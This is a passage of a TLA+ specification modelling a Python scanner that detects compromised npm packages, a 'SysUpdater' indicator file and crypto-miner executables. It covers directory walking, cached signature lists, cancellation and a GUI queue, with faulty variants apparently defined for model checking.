    /\ pargs = [only_risk |-> FALSE, check_sysupdater |-> FALSE,
                check_scripts |-> FALSE]
    /\ prows = <<>>
    /\ pwork = <<>>
    /\ pused = 0
    /\ pscripts = <<>>
    /\ prowsAll = <<>>

\* ------------------------------------------------- project discovery
\* directories below root in one tree
MaxDirs == 3

\* the default of max_depth
DefaultMaxDepth == 6

\* directory names, in the order os.walk lists them
DirOrder == << ".VSCode", "Extensions", "node_modules", "src" >>
DirNames == {DirOrder[i] : i \in DOMAIN DirOrder}

\* the trees of at most n directories below root: every path comes with
\* its prefixes
RECURSIVE DirShapes(_)
DirShapes(n) ==
    IF n = 0 THEN {{<<>>}}
    ELSE LET S == DirShapes(n - 1)
         IN  S \cup UNION {{T \cup {Append(q, d)} : q \in T, d \in DirNames} :
                              T \in {X \in S : Cardinality(X) = n}}

\* what exclude_names can be
ExcludeChoices == { {" Extensions ", " "}, {"SRC"} }

\* str.strip() on the configured names
Strip(t) ==
    CASE t = " Extensions " -> "Extensions"
      [] t = " " -> ""
      [] OTHER -> t

\* exclusions = {name.strip().lower() for name in exclude_names
\*               if name and name.strip()}
Exclusions(names) ==
    {Lower(Strip(name)) : name \in {m \in names : m # "" /\ Strip(m) # ""}}

\* the directories never entered, whatever the configuration
BuiltinExclusions ==
    {"node_modules", ".git", ".hg", ".svn", ".cache", "__pycache__"}

\* _depth_of(dirpath, root): len(rel.parts)
_depth_of(dirpath) == Len(dirpath)

\* Path(dirpath).name: the last part, "" for the root of the walk here
DirName(dirpath) == IF dirpath = <<>> THEN "" ELSE dirpath[Len(dirpath)]

\* variant: the depth test lets one more level through
ExceedsDepthByTwo(depth, limit) == depth > limit + 1

\* max_depth is not None and _depth_of(dirpath, root) > max_depth
ExceedsDepth(depth, limit) == depth > limit

\* variant: an excluded name is dropped whatever it is
KeepsChildNoException(d, parent, exclusions) ==
    LET dl == Lower(d)
    IN  IF dl \in exclusions \/ dl \in BuiltinExclusions
        THEN FALSE
        ELSE ~(dl = "extensions" /\ Lower(parent) = ".vscode")

\* one turn of "for d in dirnames": whether d is appended to pruned, the
\* list that replaces dirnames
KeepsChild(d, parent, exclusions) ==
    LET dl == Lower(d)
    IN  IF dl \in exclusions \/ dl \in BuiltinExclusions
        THEN dl = "extensions" /\ Lower(parent) # ".vscode"
        ELSE ~(dl = "extensions" /\ Lower(parent) = ".vscode")

\* dirnames as os.walk lists them for dirpath
ChildNames(tree, dirpath) ==
    SelectSeq(DirOrder, LAMBDA d : Append(dirpath, d) \in tree)

\* what the files of a directory can be
FileListings == { {}, {"package.json"}, {"Package.JSON"} }

\* variant: the manifest is looked for under its exact name
IsProjectRootExact(filenames) == "package.json" \in filenames

\* "package.json" in (name.lower() for name in filenames)
IsProjectRoot(filenames) == "package.json" \in {Lower(f) : f \in filenames}

\* the directories os.walk(base) yields: base and everything below it
Below(tree, base) ==
    {q \in tree : Len(q) >= Len(base) /\ SubSeq(q, 1, Len(base)) = base}

\* the discoverer is not running
DiscoverIdle ==
    /\ dtree = {<<>>}
    /\ exclude_names = {}
    /\ max_depth = DefaultMaxDepth
    /\ check_sysupdater = FALSE
    /\ dcancel = "none"
    /\ dpc = "idle"
    /\ dstack = <<>>
    /\ dvisits = <<>>
    /\ dcalls = <<>>
    /\ dswept = {}

\* ------------------------------------------- remote signature lists
\* max_age, in seconds
max_age == 86400

\* the entries of the built-in list and of the documents: d1, d2 are
\* built in, s1, s2 are not
DEFAULT_LIST == << "d1", "d2" >>

\* the lists a document (remote or cached) can carry; <<>>: the document
\* is {} or lacks the key
Payloads == { <<>>, << "s1" >>, << "d1", "s2" >>, << "s1", "s1" >> }

NoCache == [exists |-> FALSE, age |-> 0, kind |-> "none", items |-> <<>>]

\* the cache file at the call: absent, or of some age with a JSON object,
\* text that is no JSON, or bytes that are no UTF-8 text
CacheStates ==
    {NoCache}
    \cup [exists : {TRUE}, age : {3600, 86399, 86400}, kind : {"json"},
          items : Payloads]
    \cup [exists : {TRUE}, age : {3600, 86399, 86400},
          kind : {"corrupt", "undecodable"}, items : {<<>>}]

\* requests.get / raise_for_status / resp.json(): a document, a body that
\* is no JSON, or a RequestException
NetResults ==
    [status : {"ok"}, items : Payloads]
    \cup [status : {"notjson", "error"}, items : {<<>>}]

\* cache_file.write_text: written, refused on open, or cut short after
\* the file was truncated
WriteResults == {"ok", "denied", "truncated"}

\* variant: a cache of exactly max_age counts as fresh
IsFreshInclusive(cache) == cache.exists /\ cache.age <= max_age

\* cache_file.exists() and (now - cache_file.stat().st_mtime < max_age)
IsFresh(cache) == cache.exists /\ cache.age < max_age

\* the items of s that are not in seen, each once, in order
RECURSIVE Unseen(_, _)
Unseen(s, seen) ==
    IF s = <<>> THEN <<>>
    ELSE IF Head(s) \in seen THEN Unseen(Tail(s), seen)
    ELSE <<Head(s)>> \o Unseen(Tail(s), seen \cup {Head(s)})

\* _merge_unique(a, b)
_merge_unique(a, b) == Unseen(a \o b, {})

\* the module-level resolution: bad_packages and extra_targets are
\* replaced by a non-empty fetched value, the miner lists are the built-in
\* list merged with the fetched one
Resolve(kind, fetched) ==
    IF kind = "replace"
    THEN (IF fetched = <<>> THEN DEFAULT_LIST ELSE fetched)
    ELSE _merge_unique(DEFAULT_LIST, fetched)

\* no list is being resolved
FetchIdle ==
    /\ fkind = "replace"
    /\ fcache = NoCache
    /\ fnet = [status |-> "error", items |-> <<>>]
    /\ fwrite = "ok"
    /\ fpc = "idle"
    /\ fdata = <<>>
    /\ fresult = <<>>
    /\ fresolved = <<>>
    /\ frequested = FALSE
    /\ fcache0 = NoCache

\* ------------------------------------- the depth-limited sweeps
\* the file names met by the two sweeps
SweepFiles == << "SysUpdater.DAT", "XMRig.exe", "readme.md" >>

\* dirnames as os.walk lists them; a directory has one child at most
SweepDirListings == { <<>>, <<"Extensions">>, <<"SRC">> }

\* the exclude_names the sweeps are called with
SweepExcludeChoices == { {"src"}, {"extensions"} }

\* options.max_depth
SweepDepthChoices == {0, 7, 9}

\* exclusions = {name.lower() for name in exclude_names}
PlainExclusions(names) == {Lower(name) : name \in names}

\* MINER_FILE_HINTS, each "<stem>(\.exe)?$"
MINER_FILE_HINTS == {"xmrig", "lolminer", "nbminer", "ethminer"}

\* the stem that ends filename, case ignored, an .exe suffix left out
StemOf(filename) ==
    CASE filename = "XMRig.exe" -> "xmrig"
      [] filename = "xmrig" -> "xmrig"
      [] OTHER -> ""

\* max(a, b)
max(a, b) == IF a >= b THEN a ELSE b

\* variant: the configured depth is passed as it is
EffectiveDepthConfigured(kind, depth) == depth

\* max_depth=max(options.max_depth, 8) for the global signature sweep,
\* max_depth=max(options.max_depth, 6) for the miner file sweep
EffectiveDepth(kind, depth) ==
    IF kind = "sysupdater_global" THEN max(depth, 8) ELSE max(depth, 6)

\* the test of one file name in "for filename in files"
SweepHit(kind, filename) ==
    IF kind = "sysupdater_global"
    THEN Lower(filename) \in SYSUPDATER_NAMES
    ELSE StemOf(filename) \in MINER_FILE_HINTS

\* the finding of one file, with the directory it lies in
SweepRow(kind, dirpath, filename) ==
    [Category |-> IF kind = "sysupdater_global" THEN "IoC:sysupdater"
                  ELSE "miner:file",
     Item |-> filename, Dir |-> dirpath, Severity |-> "HIGH"]

\* the directories of svisits that hold files
FullDirs(visits) == Cardinality({i \in DOMAIN visits : visits[i].files # <<>>})

\* no sweep is running
SweepIdle ==
    /\ skind = "sysupdater_global"
    /\ sopt = 0
    /\ sexclude = {}
    /\ scancel = "none"
    /\ spc = "idle"
    /\ smax = 0
    /\ sdir = <<>>
    /\ sfiles = <<>>
    /\ snext = <<>>
    /\ svisits = <<>>
    /\ srows = <<>>

\* ------------------------------------------- the graphical front-end
\* the scans of one session of the window
Scans == 1..MaxScans

\* what the queue holds: a message with where it comes from, or the tuple
\* ("__DONE__", stats)
Msg(tag, k) == [tag |-> tag, scan |-> k]

\* variant: a message is put even when the queue is full
put_nowaitUnbounded(queue, item) == Append(queue, item)

\* q.put_nowait(item): Full is raised when maxsize items wait
put_nowait(queue, item) ==
    IF Len(queue) < maxsize THEN Append(queue, item) ELSE queue

\* post(message): the message is queued, or counted as dropped on Full
PostQ(queue, tag, k) == put_nowait(queue, Msg(tag, k))

\* variant: a dropped line is not counted
PostDroppedUncounted(queue, count) == count

\* post(message), the except branch: dropped["count"] += 1
PostDropped(queue, count) == IF Len(queue) < maxsize THEN count ELSE count + 1

\* the count of dropped lines is kept within MaxLogs between two ticks: no
\* line is posted on a full queue beyond that
CanPost(queue, count) == Len(queue) < maxsize \/ count < MaxLogs

\* variant: a click starts a scan whatever the running flag is
StartsScanAlways(flag) == TRUE

\* on_btn_click(): stop_scan() if running["flag"], start_scan() otherwise
StartsScan(flag) == ~flag

\* the window is open and no scan was started
GuiIdle ==
    /\ gq = <<>>
    /\ dropped = 0
    /\ running = FALSE
    /\ btn_run = "start"
    /\ cancel_event = 0
    /\ gtokens = [k \in Scans |-> "none"]
    /\ gworker = [k \in Scans |-> "none"]
    /\ gleft = [k \in Scans |-> 0]
    /\ gpump = "idle"
    /\ processed = 0
    /\ gapp = "open"
    /\ gsent = [k \in Scans |-> 0]
    /\ gconsumed = [k \in Scans |-> 0]

\* run_scan_core is entered: rows = [], the token in any of its states
Init ==
    /\ os \in OSes
    /\ cancel \in {"none", "unset", "set"}
    /\ cancelAtCall = cancel
    /\ pc = "gate"
    /\ pos = 1
    /\ rows = <<>>
    /\ work = <<>>
    /\ raises = FALSE
    /\ interrupted = FALSE
    /\ outcome = "running"
    /\ stats = NoStats
    /\ csvOut = NotWritten
    /\ jsonOut = NotWritten
    /\ summary = "none"
    /\ appended = <<>>
    /\ atCancel = <<>>
    /\ order = <<>>
    /\ fullTotal = 0
    /\ fullRaises = FALSE
    /\ MatchIdle
    /\ WalkIdle
    /\ ProjectIdle
    /\ DiscoverIdle
    /\ FetchIdle
    /\ SweepIdle
    /\ GuiIdle

\* control reaches gate k, or the end of the try block after the last gate
GotoGate(k) ==
    IF k > NSteps THEN pc' = "sort" /\ pos' = NSteps + 1
    ELSE pc' = "gate" /\ pos' = k

\* the run on the same inputs whose token is never set enters a detector
\* with work w that raises iff r
ShadowRuns(w, r) ==
    IF fullRaises THEN UNCHANGED << fullTotal, fullRaises >>
    ELSE fullTotal' = fullTotal + Len(w) /\ fullRaises' = r

\* which arm of the project if/elif is taken (0: none)
ProjectArm(stop, no_npm, sysupdater_project) ==
    IF stop THEN 0
    ELSE IF ~no_npm THEN 1
    ELSE IF sysupdater_project THEN 2
    ELSE 0

\* the first gate: npm project scan, or the project signature sweep
GateProjects ==
    /\ pc = "gate" /\ pos = 1
    /\ \E no_npm, sysupdater_project, only_risk, no_scripts \in BOOLEAN :
         LET arm == ProjectArm(_should_stop(cancel), no_npm, sysupdater_project)
             armB == ProjectArm(FALSE, no_npm, sysupdater_project)
             \* the arguments of the two calls of scan_projects_under_root
             items(a) == IF a = 1
                         THEN ProjectItems(only_risk, sysupdater_project, ~no_scripts)
                         ELSE ProjectItems(FALSE, TRUE, FALSE)
         IN  IF arm = 0 /\ armB = 0
             THEN /\ GotoGate(3)
                  /\ UNCHANGED << work, raises, fullTotal, fullRaises >>
             ELSE \E w \in WorkSet(items(IF arm # 0 THEN arm ELSE armB), fullTotal),
                     r \in RaiseChoices(IF arm # 0 THEN arm ELSE armB) :
                    /\ IF arm # 0
                       THEN pc' = "run" /\ pos' = arm /\ work' = w /\ raises' = r
                       ELSE GotoGate(3) /\ UNCHANGED << work, raises >>
                    /\ IF armB # 0
                       THEN ShadowRuns(w, r)
                       ELSE UNCHANGED << fullTotal, fullRaises >>
    /\ UNCHANGED << os, cancel, rows, interrupted, outcome, stats, csvOut,
                    jsonOut, cancelAtCall, appended, atCancel, order >>
    /\ UNCHANGED << summary, notScanVars >>

\* every later gate; gate 5 (miner processes) has no flag of its own
GateStep ==
    /\ pc = "gate" /\ pos \in 3..NSteps
    /\ \E flag \in (IF pos = 5 THEN {TRUE} ELSE BOOLEAN) :
         LET pass == GatePass(pos, os, _should_stop(cancel), flag)
             passB == GatePass(pos, os, FALSE, flag)
         IN  IF ~pass /\ ~passB
             THEN /\ GotoGate(NextOnSkip(pos))
                  /\ UNCHANGED << work, raises, fullTotal, fullRaises >>
             ELSE \E w \in WorkSet(DetectorItems(pos, os), fullTotal),
                     r \in RaiseChoices(pos) :
                    /\ IF pass
                       THEN pc' = "run" /\ pos' = pos /\ work' = w /\ raises' = r
                       ELSE GotoGate(NextOnSkip(pos)) /\ UNCHANGED << work, raises >>
                    /\ IF ~passB
                       THEN UNCHANGED << fullTotal, fullRaises >>
                       ELSE IF pass \/ NextOnSkip(pos) = pos + 1
                       THEN ShadowRuns(w, r)
                       \* the nested gate is skipped here, not there
                       ELSE \E w5 \in WorkSet(DetectorItems(pos + 1, os),
                                              fullTotal + Len(w)) :
                              ShadowRuns(w \o w5, r)
    /\ UNCHANGED << os, cancel, rows, interrupted, outcome, stats, csvOut,
                    jsonOut, cancelAtCall, appended, atCancel, order >>
    /\ UNCHANGED << summary, notScanVars >>

\* the running detector evaluates _should_stop before its next unit of work
DetectorPoll ==
    /\ pc = "run" /\ work # <<>> /\ Head(work).poll
    /\ IF _should_stop(cancel)
       THEN GotoGate(NextOnReturn(pos)) /\ work' = <<>> /\ raises' = FALSE
       ELSE pc' = "emit" /\ UNCHANGED << pos, work, raises >>
    /\ UNCHANGED << os, cancel, rows, interrupted, outcome, stats, csvOut,
                    jsonOut, cancelAtCall, appended, atCancel, order,
                    fullTotal, fullRaises >>
    /\ UNCHANGED << summary, notScanVars >>

\* the running detector calls add_row
DetectorEmit ==
    /\ \/ pc = "emit"
       \/ pc = "run" /\ work # <<>> /\ ~Head(work).poll
    /\ rows' = add_row(rows, Head(work).row)
    /\ appended' = Append(appended, Head(work).row)
    /\ work' = Tail(work)
    /\ pc' = "run"
    /\ UNCHANGED << os, cancel, pos, raises, interrupted, outcome, stats,
                    csvOut, jsonOut, cancelAtCall, atCancel, order,
                    fullTotal, fullRaises >>
    /\ UNCHANGED << summary, notScanVars >>

\* the running detector returns to run_scan_core
DetectorReturn ==
    /\ pc = "run" /\ work = <<>> /\ ~raises
    /\ GotoGate(NextOnReturn(pos))
    /\ UNCHANGED << os, cancel, rows, work, raises, interrupted, outcome,
                    stats, csvOut, jsonOut, cancelAtCall, appended, atCancel,
                    order, fullTotal, fullRaises >>
    /\ UNCHANGED << summary, notScanVars >>

\* the running detector raises an error that is not KeyboardInterrupt: the
\* try block has no clause for it, so it leaves run_scan_core
DetectorRaise ==
    /\ pc = "run" /\ work = <<>> /\ raises
    /\ pc' = "done"
    /\ outcome' = "raised"
    /\ raises' = FALSE
    /\ UNCHANGED << os, cancel, pos, rows, work, interrupted, stats, csvOut,
                    jsonOut, cancelAtCall, appended, atCancel, order,
                    fullTotal, fullRaises >>
    /\ UNCHANGED << summary, notScanVars >>

\* variant: run_scan_core has no except clause for KeyboardInterrupt
InterruptUncaught ==
    /\ pc \in {"gate", "run", "emit"}
    /\ pc' = "done"
    /\ outcome' = "raised"
    /\ interrupted' = TRUE
    /\ work' = <<>>
    /\ raises' = FALSE
    /\ UNCHANGED << os, cancel, pos, rows, stats, csvOut, jsonOut,
                    cancelAtCall, appended, atCancel, order, fullTotal,
                    fullRaises >>
    /\ UNCHANGED << summary, notScanVars >>

\* KeyboardInterrupt is raised somewhere inside the try block: the except
\* clause takes control to the statements after the try block
Interrupt ==
    /\ pc \in {"gate", "run", "emit"}
    /\ GotoGate(NSteps + 1)
    /\ interrupted' = TRUE
    /\ work' = <<>>
    /\ raises' = FALSE
    /\ UNCHANGED << os, cancel, rows, outcome, stats, csvOut, jsonOut,
                    cancelAtCall, appended, atCancel, order, fullTotal,
                    fullRaises >>
    /\ UNCHANGED << summary, notScanVars >>

\* another thread sets the token (threading.Event.set); nothing clears it
SetCancel ==
    /\ cancel = "unset"
    /\ pc # "done"
    /\ cancel' = "set"
    /\ atCancel' = appended
    /\ UNCHANGED << os, pc, pos, rows, work, raises, interrupted, outcome,
                    stats, csvOut, jsonOut, cancelAtCall, appended, order,
                    fullTotal, fullRaises >>
    /\ UNCHANGED << summary, notScanVars >>

\* if _should_stop(cancel): log("[i] Fin anticipée (arrêt demandé). ...")
\* else: log("[i] Fin du scan. ...")
SummaryLine(stop) == IF stop THEN "early" ELSE "normal"

\* after the try block: sort in place, write the reports, count, log the
\* summary line, return
Finish ==
    /\ pc = "sort"
    /\ rows' = SortRows(rows)
    /\ order' = SortPerm(rows)
    /\ \E csv, json \in BOOLEAN :
         /\ csvOut' = IF csv THEN [written |-> TRUE, rows |-> rows'] ELSE csvOut
         /\ jsonOut' = IF json THEN [written |-> TRUE, rows |-> rows'] ELSE jsonOut
    /\ stats' = StatsOf(rows')
    /\ summary' = SummaryLine(_should_stop(cancel))
    /\ outcome' = "returned"
    /\ pc' = "done"
    /\ UNCHANGED << os, cancel, pos, work, raises, interrupted, cancelAtCall,
                    appended, atCancel, fullTotal, fullRaises >>
    /\ UNCHANGED notScanVars

Next ==
    \/ GateProjects
    \/ GateStep
    \/ DetectorPoll
    \/ DetectorEmit
    \/ DetectorReturn
    \/ DetectorRaise
    \/ Interrupt
    \/ SetCancel
    \/ Finish

Spec == Init /\ [][Next]_vars

\* what the thread that runs run_scan_core does by itself; an interrupt and
\* a stop request come from outside
ProgramStep ==
    \/ GateProjects
    \/ GateStep
    \/ DetectorPoll
    \/ DetectorEmit
    \/ DetectorReturn
    \/ DetectorRaise
    \/ Finish

\* the thread is scheduled as long as it has a step to take
SpecLive == Spec /\ WF_vars(ProgramStep)

\* ------------------------------------- the matcher called on its own
\* no scan is running
ScanIdle ==
    /\ os = "lin"
    /\ cancel = "none"
    /\ cancelAtCall = "none"
    /\ pc = "done"
    /\ pos = 1
    /\ rows = <<>>
    /\ work = <<>>
    /\ raises = FALSE
    /\ interrupted = FALSE
    /\ outcome = "running"
    /\ stats = NoStats
    /\ csvOut = NotWritten
    /\ jsonOut = NotWritten
    /\ summary = "none"
    /\ appended = <<>>
    /\ atCancel = <<>>
    /\ order = <<>>
    /\ fullTotal = 0
    /\ fullRaises = FALSE

\* a blocklist is loaded and is_compromised is about to be called
InitMatch ==
    /\ ScanIdle
    /\ BAD_PACKAGES \in Blocklists
    /\ mname \in Names
    /\ mversion \in Versions
    /\ mresult = FALSE
    /\ mpc = "call"
    /\ WalkIdle
    /\ ProjectIdle
    /\ DiscoverIdle
    /\ FetchIdle
    /\ SweepIdle
    /\ GuiIdle

\* the call of is_compromised(mname, mversion)
CallIsCompromised ==
    /\ mpc = "call"
    /\ mresult' = is_compromised(mname, mversion)
    /\ mpc' = "done"
    /\ UNCHANGED << BAD_PACKAGES, mname, mversion >>
    /\ UNCHANGED notMatchVars

NextMatch == CallIsCompromised

SpecMatch == InitMatch /\ [][NextMatch]_vars

\* -------------------------------------- the walker called on its own
\* scan_npm_project has parsed the output of npm ls and is about to call
\* walk_package_tree(data, root_name, ["root"], rows, project, only_risk)
InitWalk ==
    /\ ScanIdle
    /\ MatchIdle
    /\ wtree \in UNION {Documents(T) : T \in TreeShapes(MaxNodes)}
    /\ wname \in {"", "chalk"}
    /\ wonly_risk \in BOOLEAN
    /\ wrows = <<>>
    /\ wpc = "call"
    /\ ProjectIdle
    /\ DiscoverIdle
    /\ FetchIdle
    /\ SweepIdle
    /\ GuiIdle

CallWalk ==
    /\ wpc = "call"
    /\ wrows' = walk_package_tree(wtree, <<>>, wname, <<"root">>, wrows, T1,
                                  wonly_risk)
    /\ wpc' = "done"
    /\ UNCHANGED << wtree, wname, wonly_risk >>
    /\ UNCHANGED notWalkVars

NextWalk == CallWalk

SpecWalk == InitWalk /\ [][NextWalk]_vars

\* ------------------------------------- the project step on one project
\* run_scan_core is entered with a root that is one project (package.json
\* in the root directory, nothing below it); what the project holds is read
\* when the code reads it
AllOptions ==
    [no_npm : BOOLEAN, sysupdater_project : BOOLEAN, only_risk : BOOLEAN,
     no_scripts : BOOLEAN]

InitProject ==
    /\ ScanIdle
    /\ MatchIdle
    /\ WalkIdle
    /\ options \in AllOptions
    /\ pcancel \in {"none", "unset", "set"}
    /\ ppc = "gate"
    /\ pargs = [only_risk |-> FALSE, check_sysupdater |-> FALSE,
                check_scripts |-> FALSE]
    /\ prows = <<>>
    /\ pwork = <<>>
    /\ pused = 0
    /\ pscripts = <<>>
    /\ prowsAll = <<>>
    /\ DiscoverIdle
    /\ FetchIdle
    /\ SweepIdle
    /\ GuiIdle

\* what is left of the content bound
Budget == MaxItems - pused

\* the arguments of the call of scan_projects_under_root in arm a
ArmArgs(a, o) ==
    IF a = 1
    THEN [only_risk |-> o.only_risk, check_sysupdater |-> o.sysupdater_project,
          check_scripts |-> ~o.no_scripts]
    ELSE [only_risk |-> FALSE, check_sysupdater |-> TRUE,
          check_scripts |-> FALSE]

\* the sub-step returns all the way up: the detectors that follow are not
\* part of this specification
PReturn ==
    /\ ppc' = "done"
    /\ pwork' = <<>>

\* if not _should_stop(cancel): if not options.no_npm ... elif
\* options.sysupdater_project ...
PGate ==
    /\ ppc = "gate"
    /\ LET arm == ProjectArm(_should_stop(pcancel), options.no_npm,
                             options.sysupdater_project)
       IN  IF arm = 0
           THEN PReturn /\ UNCHANGED pargs
           ELSE /\ pargs' = ArmArgs(arm, options)
                /\ ppc' = "enter"
                /\ UNCHANGED pwork
    /\ UNCHANGED << options, pcancel, prows, pused, pscripts, prowsAll >>
    /\ UNCHANGED notProjVars

\* os.walk yields the root: the poll of scan_projects_under_root, the
\* manifest is found, scan_npm_project polls on entry
PEnter ==
    /\ ppc = "enter"
    /\ IF _should_stop(pcancel) THEN PReturn ELSE ppc' = "npm_ls" /\ UNCHANGED pwork
    /\ UNCHANGED << options, pcancel, pargs, prows, pused, pscripts, prowsAll >>
    /\ UNCHANGED notProjVars

\* if which("npm") and not _should_stop(cancel): walk the document npm ls
\* printed
PNpmLs ==
    /\ ppc = "npm_ls"
    /\ \E npm \in BOOLEAN :
         IF npm /\ ~_should_stop(pcancel)
         THEN \E T \in TreeShapes(Min(Budget, MaxNodes)) : \E doc \in Documents(T) :
                /\ prows' = walk_package_tree(doc, <<>>, "", <<"root">>, prows,
                                              T1, pargs.only_risk)
                /\ prowsAll' = walk_package_tree(doc, <<>>, "", <<"root">>,
                                                 prowsAll, T1, FALSE)
                /\ pused' = pused + Cardinality(T) - 1
         ELSE UNCHANGED << prows, prowsAll, pused >>
    /\ ppc' = "lock"
    /\ UNCHANGED << options, pcancel, pargs, pwork, pscripts >>
    /\ UNCHANGED notProjVars

\* the poll in front of package-lock.json, then data.get("packages")
PLockRead ==
    /\ ppc = "lock"
    /\ IF _should_stop(pcancel)
       THEN PReturn /\ UNCHANGED pused
       ELSE \E metas \in BSeq(LockMetas, Budget) :
              /\ pwork' = [i \in DOMAIN metas |->
                              [pkgpath |-> LockKey(i, metas[i]), meta |-> metas[i]]]
              /\ pused' = pused + Len(metas)
              /\ ppc' = "lock_loop"
    /\ UNCHANGED << options, pcancel, pargs, prows, pscripts, prowsAll >>
    /\ UNCHANGED notProjVars

\* for pkgpath, meta in pkgs.items(): poll, then the entry
PLockEntry ==
    /\ ppc = "lock_loop" /\ pwork # <<>>
    /\ IF _should_stop(pcancel)
       THEN PReturn /\ UNCHANGED << prows, prowsAll >>
       ELSE /\ prows' = LockEntryRows(prows, T1, Head(pwork).pkgpath,
                                      Head(pwork).meta, pargs.only_risk)
            /\ prowsAll' = LockEntryRows(prowsAll, T1, Head(pwork).pkgpath,
                                         Head(pwork).meta, FALSE)
            /\ pwork' = Tail(pwork)
            /\ UNCHANGED ppc
    /\ UNCHANGED << options, pcancel, pargs, pused, pscripts >>
    /\ UNCHANGED notProjVars

\* the poll in front of yarn.lock, then its matches
PYarn ==
    /\ ppc = "lock_loop" /\ pwork = <<>>
    /\ IF _should_stop(pcancel)
       THEN PReturn /\ UNCHANGED << prows, prowsAll, pused >>
       ELSE \E txt \in BSeq(LineTokens, Budget) :
              /\ prows' = LineLockRows(prows, T1, txt, TargetOrder,
                                       "yarn.lock", pargs.only_risk)
              /\ prowsAll' = LineLockRows(prowsAll, T1, txt, TargetOrder,
                                          "yarn.lock", FALSE)
              /\ pused' = pused + Len(txt)
              /\ ppc' = "pnpm"
              /\ UNCHANGED pwork
    /\ UNCHANGED << options, pcancel, pargs, pscripts >>
    /\ UNCHANGED notProjVars

\* pnpm-lock.yaml follows without a poll
PPnpm ==
    /\ ppc = "pnpm"
    /\ \E txt \in BSeq(LineTokens, Budget) :
         /\ prows' = LineLockRows(prows, T1, txt, TargetOrder,
                                  "pnpm-lock.yaml", pargs.only_risk)
         /\ prowsAll' = LineLockRows(prowsAll, T1, txt, TargetOrder,
                                     "pnpm-lock.yaml", FALSE)
         /\ pused' = pused + Len(txt)
    /\ ppc' = "scripts"
    /\ UNCHANGED << options, pcancel, pargs, pwork, pscripts >>
    /\ UNCHANGED notProjVars

\* if check_scripts and pkg.exists(): descriptor = read_json(pkg)
PScriptsRead ==
    /\ ppc = "scripts"
    /\ IF pargs.check_scripts
       THEN \E sc \in ScriptMaps(Budget) :
              /\ pscripts' = sc
              /\ pwork' = sc
              /\ pused' = pused + Len(sc)
              /\ ppc' = "scripts_loop"
       ELSE /\ ppc' = "sysupdater"
            /\ UNCHANGED << pscripts, pwork, pused >>
    /\ UNCHANGED << options, pcancel, pargs, prows, prowsAll >>
    /\ UNCHANGED notProjVars

\* for script_name, script_cmd in descriptor["scripts"].items(): poll, then
\* the entry
PScriptEntry ==
    /\ ppc = "scripts_loop" /\ pwork # <<>>
    /\ IF _should_stop(pcancel)
       THEN PReturn /\ UNCHANGED << prows, prowsAll >>
       ELSE /\ prows' = ScriptEntryRows(prows, T1, Head(pwork).name,
                                        Head(pwork).cmd, <<"package.json">>)
            /\ prowsAll' = ScriptEntryRows(prowsAll, T1, Head(pwork).name,
                                           Head(pwork).cmd, <<"package.json">>)
            /\ pwork' = Tail(pwork)
            /\ UNCHANGED ppc
    /\ UNCHANGED << options, pcancel, pargs, pused, pscripts >>
    /\ UNCHANGED notProjVars

\* the rc files, read without a poll once the scripts are through
PNpmrc ==
    /\ ppc = "scripts_loop" /\ pwork = <<>>
    /\ \E holds \in SUBSET {RcFiles[i] : i \in DOMAIN RcFiles} :
         /\ Cardinality(holds) <= Budget
         /\ prows' = NpmrcRows(prows, T1, RcFiles, holds)
         /\ prowsAll' = NpmrcRows(prowsAll, T1, RcFiles, holds)
         /\ pused' = pused + Cardinality(holds)
    /\ ppc' = "sysupdater"
    /\ UNCHANGED << options, pcancel, pargs, pwork, pscripts >>
    /\ UNCHANGED notProjVars

\* if check_sysupdater and not _should_stop(cancel): scan_sysupdater_in_dir
\* lists the project directory
PSysupdater ==
    /\ ppc = "sysupdater"
    /\ IF pargs.check_sysupdater /\ ~_should_stop(pcancel)
       THEN \E fs \in Listings(Budget) :
              /\ pwork' = fs
              /\ pused' = pused + Len(fs)
              /\ ppc' = "sysupdater_loop"
       ELSE PReturn /\ UNCHANGED pused
    /\ UNCHANGED << options, pcancel, pargs, prows, pscripts, prowsAll >>
    /\ UNCHANGED notProjVars

\* for filename in files: poll, then the file
PSysupdaterFile ==
    /\ ppc = "sysupdater_loop" /\ pwork # <<>>
    /\ IF _should_stop(pcancel)
       THEN PReturn /\ UNCHANGED << prows, prowsAll >>
       ELSE /\ prows' = SysupdaterFileRows(prows, T1, Head(pwork))
            /\ prowsAll' = SysupdaterFileRows(prowsAll, T1, Head(pwork))
            /\ pwork' = Tail(pwork)
            /\ UNCHANGED ppc
    /\ UNCHANGED << options, pcancel, pargs, pused, pscripts >>
    /\ UNCHANGED notProjVars

\* the listing is through: both functions return
PSysupdaterReturn ==
    /\ ppc = "sysupdater_loop" /\ pwork = <<>>
    /\ ppc' = "done"
    /\ UNCHANGED << options, pcancel, pargs, prows, pwork, pused, pscripts,
                    prowsAll >>
    /\ UNCHANGED notProjVars

\* another thread sets the token while the step runs
PSetCancel ==
    /\ pcancel = "unset"
    /\ ppc \notin {"idle", "done"}
    /\ pcancel' = "set"
    /\ UNCHANGED << options, ppc, pargs, prows, pwork, pused, pscripts,
                    prowsAll >>
    /\ UNCHANGED notProjVars

NextProject ==
    \/ PGate
    \/ PEnter
    \/ PNpmLs
    \/ PLockRead
    \/ PLockEntry
    \/ PYarn
    \/ PPnpm
    \/ PScriptsRead
    \/ PScriptEntry
    \/ PNpmrc
    \/ PSysupdater
    \/ PSysupdaterFile
    \/ PSysupdaterReturn
    \/ PSetCancel

SpecProject == InitProject /\ [][NextProject]_vars

\* ------------------------------------------- the discoverer on a tree
\* scan_projects_under_root(root, exclude_names, rows, only_risk,
\* check_sysupdater, check_scripts, max_depth, ...) is entered; the files of
\* a directory are read when os.walk comes to it
InitDiscover ==
    /\ ScanIdle
    /\ MatchIdle
    /\ WalkIdle
    /\ ProjectIdle
    /\ FetchIdle
    /\ SweepIdle
    /\ GuiIdle
    /\ dtree \in DirShapes(MaxDirs)
    /\ exclude_names \in ExcludeChoices
    /\ max_depth \in {0, 1, DefaultMaxDepth}
    /\ check_sysupdater \in BOOLEAN
    /\ dcancel = "unset"
    /\ dpc = "walk"
    /\ dstack = << <<>> >>
    /\ dvisits = <<>>
    /\ dcalls = <<>>
    /\ dswept = {}

\* the for loop ends, and the function returns, once os.walk has nothing
\* left to yield
WalkPc(stack) == IF stack = <<>> THEN "done" ELSE "walk"

\* os.walk yields a directory and the poll finds the token set: return
DStop ==
    /\ dpc = "walk" /\ dstack # <<>>
    /\ _should_stop(dcancel)
    /\ dpc' = "done"
    /\ dstack' = <<>>
    /\ UNCHANGED << dtree, exclude_names, max_depth, check_sysupdater,
                    dcancel, dvisits, dcalls, dswept >>
    /\ UNCHANGED notDiscVars

